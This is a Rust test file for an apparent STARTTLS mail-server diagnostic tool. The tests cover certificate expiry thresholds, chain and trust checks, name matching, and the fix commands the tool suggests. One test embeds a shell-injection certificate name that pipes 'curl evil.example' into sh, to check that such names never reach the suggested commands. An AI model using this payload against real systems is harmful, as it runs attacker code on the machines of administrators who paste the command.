//! The rules on hand-built observations with a fixed `now`: no network, no clock.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use time::OffsetDateTime;
use time::macros::datetime;

use crate::diagnose::*;
use crate::model::{Endpoint, FailureKind, Observation, Phase, PhaseFailure, TlsMode};
use crate::scripted::{Ca, LeafSpec};
use crate::smtp::reply::ReplyLine;
use crate::smtp::{Capabilities, Reply, Transcript};
use crate::target::Host;
use crate::tls::{Negotiated, TlsVersion, TrustStore};

pub(super) const NOW: OffsetDateTime = datetime!(2026-11-22 12:00 UTC);

pub(super) fn reply(code: u16, lines: &[&str]) -> Reply {
    Reply {
        code,
        lines: lines
            .iter()
            .map(|t| ReplyLine {
                code,
                text: t.as_bytes().to_vec(),
                bare_lf: false,
            })
            .collect(),
    }
}

/// `obs` with its STARTTLS command answered `code text` and no TLS after it, as the probe
/// records a refused STARTTLS.
pub(super) fn refuse_starttls(obs: &mut Observation, code: u16, text: &str) {
    let r = reply(code, &[text]);
    obs.tls = None;
    obs.trust = None;
    obs.chain = Vec::new();
    obs.ehlo_tls = None;
    obs.starttls_reply = Some(r.clone());
    obs.failure = Some(PhaseFailure {
        phase: Phase::Starttls,
        kind: if r.is_transient() {
            FailureKind::TemporaryReply
        } else {
            FailureKind::Rejected
        },
        message: r.one_line(),
        reply: Some(r),
        overall_deadline: false,
    });
}

/// A completed STARTTLS conversation with `chain`, its trust judged by `trust`.
pub(super) fn observed(
    host: &str,
    greeting: &str,
    chain: Vec<Vec<u8>>,
    trust: &TrustStore,
) -> Observation {
    let ehlo = reply(
        250,
        &[
            &format!("{greeting} Hello [192.0.2.1]"),
            "PIPELINING",
            "STARTTLS",
        ],
    );
    let now_unix = rustls::pki_types::UnixTime::since_unix_epoch(Duration::from_secs(
        NOW.unix_timestamp() as u64,
    ));
    Observation {
        endpoint: Endpoint {
            host: host
                .parse::<std::net::IpAddr>()
                .map_or_else(|_| Host::Name(host.into()), Host::Ip),
            address: SocketAddr::from(([192, 0, 2, 10], 25)),
            tls_mode: TlsMode::Starttls,
            via: None,
        },
        local_addr: Some(SocketAddr::from(([192, 0, 2, 1], 40000))),
        duration: Duration::from_millis(40),
        ehlo_name: "[192.0.2.1]".into(),
        sni: Some(host.into()),
        banner: Some(reply(220, &[&format!("{greeting} ESMTP Postfix")])),
        capabilities: Some(Capabilities::parse(&ehlo)),
        ehlo: Some(ehlo),
        helo: None,
        starttls_reply: Some(reply(220, &["2.0.0 Ready to start TLS"])),
        injected: Vec::new(),
        tls: Some(Negotiated {
            version: TlsVersion::Tls13,
            cipher_suite: "TLS13_AES_128_GCM_SHA256".into(),
            key_exchange: Some("X25519".into()),
        }),
        handshake_error: None,
        trust: Some(trust.check(&chain, now_unix)),
        chain,
        ehlo_tls: Some(reply(250, &[greeting])),
        failure: None,
        transcript: Transcript::new(Instant::now()),
        legacy_tls: None,
        tls_required: None,
        blocklist: None,
        ocsp_staple: Vec::new(),
        revocation: None,
        client_auth: None,
        waits: crate::model::Waits {
            step_timeout: Duration::from_secs(10),
            banner: Some(Duration::from_millis(3)),
            ehlo: Some(Duration::from_millis(2)),
            never_started: None,
        },
        mode_check: None,
        wire: Default::default(),
    }
}

pub(super) struct World {
    pub(super) root: Ca,
    issuing: Ca,
    pub(super) trust: TrustStore,
}

pub(super) fn world() -> World {
    let root = Ca::root("Unit Root", NOW).unwrap();
    let issuing = root.intermediate("Unit Issuing CA", NOW).unwrap();
    let trust = TrustStore::from_certs([root.der()], None);
    World {
        root,
        issuing,
        trust,
    }
}

impl World {
    pub(super) fn chain(&self, spec: &LeafSpec, with_intermediate: bool) -> Vec<Vec<u8>> {
        let leaf = self.issuing.leaf(spec).unwrap();
        let mut c = vec![leaf.chain[0].to_vec()];
        if with_intermediate {
            c.push(self.issuing.der().to_vec());
        }
        c
    }
}

fn codes(f: &[Finding]) -> Vec<(&'static str, Severity)> {
    f.iter().map(|f| (f.code.as_str(), f.severity)).collect()
}

fn run(obs: &Observation, policy: &Policy) -> Vec<Finding> {
    let findings = diagnose(&Evidence::derive(obs.clone(), NOW), policy, NOW);
    findings.iter().for_each(assert_fix_is_usable);
    findings
}

/// Every finding tells the admin something, and every command has text to paste.
pub(super) fn assert_fix_is_usable(f: &Finding) {
    assert!(!f.fix.text().trim().is_empty(), "{}: empty fix", f.code);
    for (shell, text) in f.fix.commands() {
        assert!(
            !text.trim().is_empty(),
            "{}: an empty {} command in\n{}",
            f.code,
            shell.label(),
            f.fix
        );
    }
}

#[test]
fn healthy_endpoint_gets_only_the_summary() {
    let w = world();
    let obs = observed(
        "mail.contoso.test",
        "mail.contoso.test",
        w.chain(&LeafSpec::valid_for("mail.contoso.test", NOW, 90), true),
        &w.trust,
    );
    let f = run(&obs, &Policy::default());
    assert_eq!(codes(&f), [("starttls-ok", Severity::Info)]);
    assert!(
        f[0].summary.contains("TLS 1.3") && f[0].summary.contains("90 more days"),
        "{}",
        f[0].summary
    );
}

/// `--fail-days N` fails when less than N days are left, `--warn-days` warns alike, on the
/// exact time left: 7 days and an hour is not less than 7 days, 45 days and 23 hours passes
/// `--min-days 45`.
#[test]
fn expiry_thresholds_compare_the_exact_time_left() {
    use time::Duration;
    let w = world();
    let severity = |left: Duration, policy: &Policy| {
        let mut spec = LeafSpec::valid_for("mx.test", NOW, 0);
        spec.not_after = NOW + left;
        let obs = observed("mx.test", "mx.test", w.chain(&spec, true), &w.trust);
        run(&obs, policy)
            .into_iter()
            .find(|f| f.code == Code::CertExpiresSoon)
            .map(|f| f.severity)
    };
    let default = Policy::default();
    for (left, expect) in [
        (Duration::days(31), None),
        (Duration::days(30), None),
        (
            Duration::days(30) - Duration::seconds(1),
            Some(Severity::Warn),
        ),
        (Duration::days(8), Some(Severity::Warn)),
        (
            Duration::days(7) + Duration::hours(12),
            Some(Severity::Warn),
        ),
        (Duration::days(7), Some(Severity::Warn)),
        (
            Duration::days(7) - Duration::seconds(1),
            Some(Severity::Fail),
        ),
        (Duration::hours(1), Some(Severity::Fail)),
    ] {
        assert_eq!(severity(left, &default), expect, "{left} left");
    }
    let min_45 = Policy {
        warn_days: 45,
        fail_days: 45,
        ..Policy::default()
    };
    let almost_46 = Duration::days(45) + Duration::hours(23);
    assert_eq!(severity(almost_46, &min_45), None, "--min-days 45");
    assert_eq!(
        severity(Duration::days(45) - Duration::hours(1), &min_45),
        Some(Severity::Fail)
    );
    // The summary counts whole days left: still true at 7 days and 12 hours.
    let mut spec = LeafSpec::valid_for("mx.test", NOW, 7);
    spec.not_after += Duration::hours(12);
    let obs = observed("mx.test", "mx.test", w.chain(&spec, true), &w.trust);
    let f = run(&obs, &default);
    let f = f.iter().find(|f| f.code == Code::CertExpiresSoon).unwrap();
    assert!(
        f.summary.starts_with("certificate expires in 7 days ("),
        "{}",
        f.summary
    );
    assert!(
        f.evidence.contains(
            &"thresholds: warn with less than 30 days left, fail with less than 7 days left"
                .to_string()
        ),
        "{:?}",
        f.evidence
    );
}

#[test]
fn expired_is_not_also_untrusted_nor_expiring() {
    let w = world();
    let mut spec = LeafSpec::valid_for("mx.test", NOW, 0);
    spec.not_before = datetime!(2026-08-21 12:00 UTC);
    spec.not_after = datetime!(2026-11-19 11:00 UTC);
    let f = run(
        &observed("mx.test", "mx.test", w.chain(&spec, true), &w.trust),
        &Policy::default(),
    );
    assert_eq!(codes(&f), [("cert-expired", Severity::Fail)]);
    assert_eq!(f[0].summary, "certificate expired 3 days ago (2026-11-19)");
}

#[test]
fn missing_intermediate_versus_unknown_root() {
    let w = world();
    let spec = LeafSpec::valid_for("mx.test", NOW, 90);
    let incomplete = run(
        &observed("mx.test", "mx.test", w.chain(&spec, false), &w.trust),
        &Policy::default(),
    );
    assert_eq!(
        codes(&incomplete),
        [("cert-chain-incomplete", Severity::Fail)]
    );
    // The same chain, complete, but nobody trusts its root: untrusted, not incomplete.
    let nobody = TrustStore::from_certs([Ca::root("Someone Else", NOW).unwrap().der()], None);
    let mut chain = w.chain(&spec, true);
    chain.push(w.root.der().to_vec());
    let untrusted = run(
        &observed("mx.test", "mx.test", chain, &nobody),
        &Policy::default(),
    );
    assert_eq!(codes(&untrusted), [("cert-untrusted", Severity::Fail)]);
}

#[test]
fn wildcard_covers_ehlo_name_one_label_only() {
    let w = world();
    let spec = LeafSpec {
        names: vec!["*.contoso.test".into()],
        ..LeafSpec::valid_for("*.contoso.test", NOW, 90)
    };
    let ok = run(
        &observed(
            "mail.contoso.test",
            "exch01.contoso.test",
            w.chain(&spec, true),
            &w.trust,
        ),
        &Policy::default(),
    );
    assert_eq!(codes(&ok), [("starttls-ok", Severity::Info)]);
    let deep = run(
        &observed(
            "mail.contoso.test",
            "exch01.corp.contoso.test",
            w.chain(&spec, true),
            &w.trust,
        ),
        &Policy::default(),
    );
    // Postfix, and the host probed is covered: senders check that name, so the greeting
    // is a note (issue 8).
    assert_eq!(
        codes(&deep),
        [
            ("cert-ehlo-name-mismatch", Severity::Info),
            ("starttls-ok", Severity::Info)
        ]
    );
    assert!(
        deep[0]
            .fix
            .text()
            .contains("postconf -P 'smtp/inet/myhostname=mail.contoso.test'"),
        "Postfix fix names a covered name:\n{}",
        deep[0].fix
    );
}

#[test]
fn address_literal_greeting_is_not_a_name_to_check() {
    let w = world();
    let obs = observed(
        "mx.test",
        "[192.0.2.10]",
        w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true),
        &w.trust,
    );
    assert_eq!(
        codes(&run(&obs, &Policy::default())),
        [("starttls-ok", Severity::Info)]
    );
}

#[test]
fn ip_target_name_check_is_skipped_unless_a_name_is_expected() {
    let w = world();
    let chain = w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true);
    let skipped = run(
        &observed("192.0.2.10", "mx.test", chain.clone(), &w.trust),
        &Policy::default(),
    );
    assert!(codes(&skipped).contains(&("cert-name-not-checked", Severity::Info)));
    let policy = Policy {
        expected_names: vec!["hybrid.contoso.test".into()],
        ..Policy::default()
    };
    let expected = run(&observed("192.0.2.10", "mx.test", chain, &w.trust), &policy);
    assert_eq!(
        codes(&expected),
        [("cert-expected-name-mismatch", Severity::Fail)]
    );
}

#[test]
fn temporary_refusal_is_inconclusive_and_starttls_454_is_not() {
    let w = world();
    let mut obs = observed("mx.test", "mx.test", Vec::new(), &w.trust);
    obs.tls = None;
    obs.trust = None;
    obs.starttls_reply = Some(reply(
        454,
        &["4.7.0 TLS not available due to local problem"],
    ));
    obs.failure = Some(PhaseFailure {
        phase: Phase::Starttls,
        kind: FailureKind::TemporaryReply,
        message: "454".into(),
        reply: obs.starttls_reply.clone(),
        overall_deadline: false,
    });
    let f = run(&obs, &Policy::default());
    assert_eq!(codes(&f), [("starttls-rejected", Severity::Fail)]);
    obs.failure = Some(PhaseFailure {
        phase: Phase::Banner,
        kind: FailureKind::TemporaryReply,
        message: "421".into(),
        reply: Some(reply(421, &["4.3.2 Service shutting down"])),
        overall_deadline: false,
    });
    let f = run(&obs, &Policy::default());
    assert_eq!(codes(&f), [("smtp-temporary-refusal", Severity::Warn)]);
    assert_eq!(
        crate::report::Verdict::from_findings(&f),
        crate::report::Verdict::Unknown
    );
}

/// Exchange Online Protection answering without STARTTLS; `hello` is line 1 of its EHLO
/// reply (with or without the address it saw us as).
pub(super) fn eop_without_starttls(hello: &str) -> Observation {
    let w = world();
    let mut obs = observed(
        "contoso-com.mail.protection.outlook.com",
        "BN8NAM11FT012.mail.protection.outlook.com",
        Vec::new(),
        &w.trust,
    );
    obs.banner = Some(reply(
        220,
        &["BN8NAM11FT012.mail.protection.outlook.com Microsoft ESMTP MAIL Service ready"],
    ));
    let ehlo = reply(250, &[hello, "SIZE 157286400", "PIPELINING"]);
    obs.capabilities = Some(Capabilities::parse(&ehlo));
    obs.ehlo = Some(ehlo);
    obs.tls = None;
    obs.trust = None;
    obs.starttls_reply = None;
    obs
}

#[test]
fn exchange_online_without_starttls_points_at_the_blocklist() {
    let obs = eop_without_starttls("BN8NAM11FT012.mail.protection.outlook.com Hello [203.0.113.7]");
    let f = run(&obs, &Policy::default());
    assert_eq!(codes(&f), [("starttls-not-offered", Severity::Fail)]);
    assert!(
        f[0].fix.text().contains("[203.0.113.7]") && f[0].fix.text().contains("Spamhaus"),
        "{}",
        f[0].fix
    );
}

#[test]
fn exchange_tls_name_is_built_from_the_certificate_seen() {
    let w = world();
    let mut spec = LeafSpec::valid_for("mail.contoso.test", NOW, 3);
    spec.not_after = NOW + time::Duration::days(3);
    let mut obs = observed(
        "mail.contoso.test",
        "mail.contoso.test",
        w.chain(&spec, true),
        &w.trust,
    );
    obs.banner = Some(reply(
        220,
        &["mail.contoso.test Microsoft ESMTP MAIL Service ready"],
    ));
    let f = run(&obs, &Policy::default());
    assert_eq!(f[0].code, Code::CertExpiresSoon);
    assert!(
        f[0].fix.text().contains("<I>CN=Unit Issuing CA, O=starttls-check demo<S>CN=mail.contoso.test, O=starttls-check demo"),
        "{}",
        f[0].fix
    );
}

#[test]
fn cert_analysis_reads_the_facts() {
    let w = world();
    let chain = w.chain(&LeafSpec::valid_for("mail.contoso.test", NOW, 90), true);
    let leaf = crate::cert::CertInfo::parse(&chain[0], NOW).unwrap();
    assert_eq!(leaf.subject, "CN=mail.contoso.test, O=starttls-check demo");
    assert_eq!(leaf.dns_names, ["mail.contoso.test"]);
    assert_eq!(leaf.days_left, 90);
    assert_eq!(
        (
            leaf.key_type.as_str(),
            leaf.key_bits,
            leaf.key_curve.as_deref()
        ),
        ("EC", 256, Some("P-256"))
    );
    assert_eq!(leaf.signature_algorithm, "ecdsa-with-SHA256");
    assert_eq!(
        leaf.extended_key_usage.as_deref(),
        Some(&["serverAuth".to_string()][..])
    );
    assert!(!leaf.self_signed && !leaf.is_ca && !leaf.weak_key() && !leaf.weak_signature());
    assert_eq!(leaf.sha256.len(), 32 * 3 - 1);
    assert_eq!(leaf.thumbprint.len(), 40);
    let root = crate::cert::CertInfo::parse(&w.root.der(), NOW).unwrap();
    assert!(root.self_signed && root.is_ca);
}

#[test]
fn weak_fixtures_are_recognised() {
    let rsa1024 = rustls::pki_types::CertificateDer::from_pem_slice(include_bytes!(
        "../../../tests/data/weak-ca-rsa1024.pem"
    ))
    .unwrap();
    let info = crate::cert::CertInfo::parse(&rsa1024, NOW).unwrap();
    assert_eq!((info.key_type.as_str(), info.key_bits), ("RSA", 1024));
    assert!(info.weak_key());
    let sha1 = rustls::pki_types::CertificateDer::from_pem_slice(include_bytes!(
        "../../../tests/data/sha1-leaf.pem"
    ))
    .unwrap();
    let info = crate::cert::CertInfo::parse(&sha1, NOW).unwrap();
    assert_eq!(info.signature_algorithm, "sha1WithRSAEncryption");
    assert!(info.weak_signature());
}

use rustls::pki_types::pem::PemObject as _;

#[test]
fn names_from_the_certificate_never_reach_a_command_unvetted() {
    let w = world();
    let evil = "x';curl evil.example|sh;'.test";
    let spec = LeafSpec {
        names: vec![evil.into(), "mail.contoso.test".into()],
        ..LeafSpec::valid_for(evil, NOW, 90)
    };
    let chain = w.chain(&spec, true);
    for (host, greeting) in [
        ("other.contoso.test", "relay.contoso.test"),
        ("192.0.2.10", "relay.contoso.test"),
    ] {
        let mut obs = observed(host, greeting, chain.clone(), &w.trust);
        obs.banner = Some(reply(
            220,
            &[&format!("{greeting} Microsoft ESMTP MAIL Service ready")],
        ));
        let policy = Policy {
            expected_names: vec!["hybrid.contoso.test".into()],
            ..Policy::default()
        };
        for f in run(&obs, &policy) {
            assert!(
                !f.fix.text().contains("curl"),
                "{}: unvetted certificate name in the fix:\n{}",
                f.code,
                f.fix
            );
        }
    }
}

#[test]
fn expired_cross_sign_off_the_path_is_not_blamed() {
    let w = world();
    let other = Ca::root("Old Root", NOW).unwrap();
    let cross = w
        .root
        .cross_signed_by(
            &other,
            datetime!(2020-01-01 0:00 UTC),
            datetime!(2025-01-01 0:00 UTC),
        )
        .unwrap();
    let mut chain = w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true);
    chain.push(cross.to_vec());
    let f = run(
        &observed("mx.test", "mx.test", chain, &w.trust),
        &Policy::default(),
    );
    assert_eq!(codes(&f), [("starttls-ok", Severity::Info)]);
}

#[test]
fn wrong_intermediate_is_named() {
    let w = world();
    let unrelated = w.root.intermediate("Unrelated Issuing CA", NOW).unwrap();
    let mut chain = w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), false);
    chain.push(unrelated.der().to_vec());
    let f = run(
        &observed("mx.test", "mx.test", chain, &w.trust),
        &Policy::default(),
    );
    assert_eq!(codes(&f), [("cert-chain-incomplete", Severity::Fail)]);
    assert!(
        f[0].summary.contains("wrong intermediate")
            && f[0].summary.contains("Unrelated Issuing CA"),
        "{}",
        f[0].summary
    );
}

#[test]
fn complete_chain_to_a_private_root_is_untrusted_not_incomplete() {
    let w = world();
    let nobody = TrustStore::from_certs([Ca::root("Someone Else", NOW).unwrap().der()], None);
    let f = run(
        &observed(
            "mx.test",
            "mx.test",
            w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true),
            &nobody,
        ),
        &Policy::default(),
    );
    assert_eq!(codes(&f), [("cert-untrusted", Severity::Fail)]);
    assert!(
        f[0].summary.contains("Unit Issuing CA") && f[0].summary.contains("Unit Root"),
        "{}",
        f[0].summary
    );
}

#[test]
fn wildcard_expected_name_must_be_on_the_certificate_as_such() {
    let w = world();
    let spec = LeafSpec {
        names: vec!["*.contoso.test".into()],
        ..LeafSpec::valid_for("*.contoso.test", NOW, 90)
    };
    let obs = observed(
        "mail.contoso.test",
        "mail.contoso.test",
        w.chain(&spec, true),
        &w.trust,
    );
    let ok = Policy {
        expected_names: vec!["*.contoso.test".into()],
        ..Policy::default()
    };
    assert_eq!(codes(&run(&obs, &ok)), [("starttls-ok", Severity::Info)]);
    let other = Policy {
        expected_names: vec!["*.fabrikam.test".into()],
        ..Policy::default()
    };
    assert_eq!(
        codes(&run(&obs, &other)),
        [("cert-expected-name-mismatch", Severity::Fail)]
    );
}

#[test]
fn no_greeting_suggestion_from_an_untrusted_certificate() {
    let w = world();
    let leaf = crate::scripted::pki::self_signed(&LeafSpec {
        names: vec!["EXCH02".into(), "exch02.contoso.local".into()],
        ..LeafSpec::valid_for("EXCH02", NOW, 900)
    })
    .unwrap();
    let mut obs = observed(
        "mail.contoso.test",
        "EXCH02.corp.contoso.test",
        vec![leaf.chain[0].to_vec()],
        &w.trust,
    );
    obs.banner = Some(reply(
        220,
        &["EXCH02.corp.contoso.test Microsoft ESMTP MAIL Service ready"],
    ));
    let f = run(&obs, &Policy::default());
    let ehlo = f
        .iter()
        .find(|f| f.code == Code::CertEhloNameMismatch)
        .unwrap();
    assert!(
        !ehlo.fix.text().contains("-Fqdn exch02") && !ehlo.fix.text().contains("-Fqdn EXCH02"),
        "{}",
        ehlo.fix
    );
    assert!(
        ehlo.fix
            .text()
            .contains("First install a trusted certificate"),
        "{}",
        ehlo.fix
    );
    let mismatch = f.iter().find(|f| f.code == Code::CertNameMismatch).unwrap();
    assert!(
        !mismatch.fix.text().contains("point the MX record"),
        "{}",
        mismatch.fix
    );
}

#[test]
fn empty_trust_store_judges_nothing() {
    let w = world();
    let empty = TrustStore::from_certs([], Some("no system CA certificates found".into()));
    let f = run(
        &observed(
            "mx.test",
            "mx.test",
            w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true),
            &empty,
        ),
        &Policy::default(),
    );
    assert!(
        f.is_empty(),
        "no trust verdict and no 'healthy' claim without roots: {:?}",
        codes(&f)
    );
}
